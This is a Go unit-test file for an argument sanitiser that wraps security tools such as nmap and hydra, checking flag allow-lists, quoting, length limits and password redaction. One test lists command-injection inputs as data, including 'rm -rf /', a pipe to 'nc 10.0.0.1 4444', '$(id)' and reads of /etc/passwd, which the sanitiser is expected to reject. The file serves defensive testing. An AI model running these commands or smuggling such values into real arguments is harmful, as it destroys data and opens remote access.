package sanitize

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var nmapFlags = []string{"-sV", "-sS", "-p", "-T", "--top-ports", "--script", "-Pn", "-w", "--wordlist"}

func TestSanitize_Tokens(t *testing.T) {
	tests := []struct {
		name string
		raw  string
		want []string
	}{
		{"empty", "", []string{}},
		{"blank", "   \t ", []string{}},
		{"simple", "-sV -p 22,80", []string{"-sV", "-p", "22,80"}},
		{"prefix match", "-p22 -T4 --top-ports=100", []string{"-p22", "-T4", "--top-ports=100"}},
		{"quoted path keeps spaces", `-w "/opt/word lists/common.txt"`, []string{"-w", "/opt/word lists/common.txt"}},
		{"single quotes", `--script 'http-title,ssl-cert'`, []string{"--script", "http-title,ssl-cert"}},
		{"escaped space", `-w /opt/word\ lists/a.txt`, []string{"-w", "/opt/word lists/a.txt"}},
		{"case preserved", "-sV -Pn", []string{"-sV", "-Pn"}},
		{"positional values", "-p 443 extra", []string{"-p", "443", "extra"}},
		{"empty quoted value", `--script ""`, []string{"--script", ""}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Sanitize(tt.raw, nmapFlags, 4096)
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestSanitize_DeniedCharacters(t *testing.T) {
	inputs := []string{
		"; rm -rf /",
		"-sV; rm -rf /",
		"-p 80 | nc 10.0.0.1 4444",
		"-p 80 & sleep 10",
		"-p 80 && id",
		"-p `id`",
		"-p $(id)",
		"-p $HOME",
		"-p 80 > /tmp/out",
		"-p 80 < /etc/passwd",
		"-p 80\nid",
		"-p 80\rid",
		`-p "80;id"`,
		`-p '80|id'`,
	}

	for _, raw := range inputs {
		t.Run(raw, func(t *testing.T) {
			_, err := Sanitize(raw, nmapFlags, 4096)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrDeniedCharacter)

			var serr *Error
			require.True(t, errors.As(err, &serr))
			assert.True(t, strings.ContainsRune(DeniedChars, serr.Char), "char %q", serr.Char)
		})
	}
}

func TestSanitize_FlagNotAllowed(t *testing.T) {
	tests := []string{
		"--evil",
		"-sV -oX /tmp/out.xml",
		"-p 22 --interactive",
		"--",
		"-",
	}

	for _, raw := range tests {
		t.Run(raw, func(t *testing.T) {
			_, err := Sanitize(raw, nmapFlags, 4096)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrFlagNotAllowed)
		})
	}
}

func TestSanitize_FlagInsideQuotesStillChecked(t *testing.T) {
	_, err := Sanitize(`"--evil"`, nmapFlags, 4096)
	assert.ErrorIs(t, err, ErrFlagNotAllowed)
}

func TestSanitize_TooLong(t *testing.T) {
	raw := "-p " + strings.Repeat("1", 100)

	_, err := Sanitize(raw, nmapFlags, 50)
	assert.ErrorIs(t, err, ErrTooLong)

	got, err := Sanitize(raw, nmapFlags, len(raw))
	require.NoError(t, err)
	assert.Len(t, got, 2)

	_, err = Sanitize(raw, nmapFlags, 0)
	assert.NoError(t, err, "non-positive limit disables the check")
}

func TestSanitize_TooLongCheckedFirst(t *testing.T) {
	raw := strings.Repeat(";", 100)
	_, err := Sanitize(raw, nmapFlags, 10)
	assert.ErrorIs(t, err, ErrTooLong)
}

func TestSanitize_UnbalancedQuotes(t *testing.T) {
	for _, raw := range []string{`-w "abc`, `-w 'abc`, `-w abc\`} {
		_, err := Sanitize(raw, nmapFlags, 4096)
		assert.ErrorIs(t, err, ErrUnbalancedQuotes, raw)
	}
}

func TestSanitize_Idempotent(t *testing.T) {
	inputs := []string{
		"-sV -p 22,80",
		`-w "/opt/word lists/common.txt" -p 443`,
		`--script 'a b' -T4`,
		`--script "it's" -p 1`,
		`--script ""`,
	}

	for _, raw := range inputs {
		t.Run(raw, func(t *testing.T) {
			first, err := Sanitize(raw, nmapFlags, 4096)
			require.NoError(t, err)

			second, err := Sanitize(Join(first), nmapFlags, 4096)
			require.NoError(t, err)
			assert.Equal(t, first, second)
		})
	}
}

func TestCheckRequired(t *testing.T) {
	groups := [][]string{{"-l", "-L", "-C"}, {"-p", "-P", "-C", "-e"}}

	assert.NoError(t, CheckRequired([]string{"-l", "root", "-P", "/opt/pw.txt"}, groups))
	assert.NoError(t, CheckRequired([]string{"-C", "/opt/combo.txt"}, groups))
	assert.NoError(t, CheckRequired([]string{"-Lusers.txt", "-ensr"}, groups))
	assert.NoError(t, CheckRequired(nil, nil))

	err := CheckRequired([]string{"-l", "root"}, groups)
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrMissingRequired)
	assert.Contains(t, err.Error(), "-p|-P|-C|-e")

	// A positional token equal to the flag text is a value, not the flag.
	err = CheckRequired([]string{"-w"}, [][]string{{"--batch"}})
	assert.ErrorIs(t, err, ErrMissingRequired)
}

func TestCheckRequired_DoesNotInject(t *testing.T) {
	tokens := []string{"-l", "root"}
	_ = CheckRequired(tokens, [][]string{{"-p"}})
	assert.Equal(t, []string{"-l", "root"}, tokens)
}

func TestRedact(t *testing.T) {
	secrets := []string{"-p", "--password"}

	tests := []struct {
		in   []string
		want []string
	}{
		{[]string{"-l", "root", "-p", "hunter2"}, []string{"-l", "root", "-p", "***"}},
		{[]string{"-phunter2"}, []string{"-p***"}},
		{[]string{"--password=hunter2", "-t", "4"}, []string{"--password=***", "-t", "4"}},
		{[]string{"--passwords-file", "x"}, []string{"--passwords-file", "x"}},
		{[]string{"-p"}, []string{"-p"}},
		{[]string{"-t", "4"}, []string{"-t", "4"}},
	}

	for _, tt := range tests {
		got := Redact(tt.in, secrets)
		assert.Equal(t, tt.want, got)
	}

	in := []string{"-p", "x"}
	_ = Redact(in, secrets)
	assert.Equal(t, []string{"-p", "x"}, in, "input must not be modified")

	assert.Equal(t, in, Redact(in, nil))
}

func TestError_Messages(t *testing.T) {
	_, err := Sanitize("-p 80; id", nmapFlags, 4096)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `';'`)

	_, err = Sanitize("--evil", nmapFlags, 4096)
	require.Error(t, err)
	assert.Contains(t, err.Error(), `"--evil"`)
}

func TestError_MessagesOmitValues(t *testing.T) {
	hydraFlags := []string{"-l", "-p"}

	_, err := Sanitize(`-l admin -p 'pa$$w0rd'`, hydraFlags, 4096)
	require.ErrorIs(t, err, ErrDeniedCharacter)
	assert.Contains(t, err.Error(), `'$'`)
	assert.NotContains(t, err.Error(), "w0rd")

	_, err = Sanitize("-l admin --passwd=hunter2", hydraFlags, 4096)
	require.ErrorIs(t, err, ErrFlagNotAllowed)
	assert.Contains(t, err.Error(), `"--passwd"`)
	assert.NotContains(t, err.Error(), "hunter2")

	var serr *Error
	require.True(t, errors.As(err, &serr))
	assert.Equal(t, "--passwd", serr.Token)
}
